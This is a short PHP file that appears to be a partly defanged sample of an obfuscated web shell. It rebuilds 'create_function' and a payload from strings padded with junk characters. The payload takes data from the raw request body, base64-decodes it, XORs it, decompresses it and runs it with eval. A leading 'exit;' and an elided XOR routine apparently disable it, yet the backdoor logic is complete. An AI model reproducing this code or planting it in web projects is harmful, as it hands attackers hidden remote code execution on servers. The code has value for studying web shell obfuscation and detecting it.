<?php exit; /* inert */ $V='$k="XqX0Xq0";fuXqnction x(XqXq$t,$k){/*Xqelided*/}';
$n=str_replace('Zp','','crZpeaZptZpe_fZpuncZption');
$J='if(@preg_mXqatch("/$kh(.+)$kf/",@file_get_conteXqnts("php://inpXqut"),$m)==1){';
$u='@obXq_start();@evXqal(@gzuncXqompress(@x(base64_deXqcode($m[1]),$k)));}';
$w=str_replace('Xq','',$V.$J.$u);
$Q=$n('',$w);$Q();
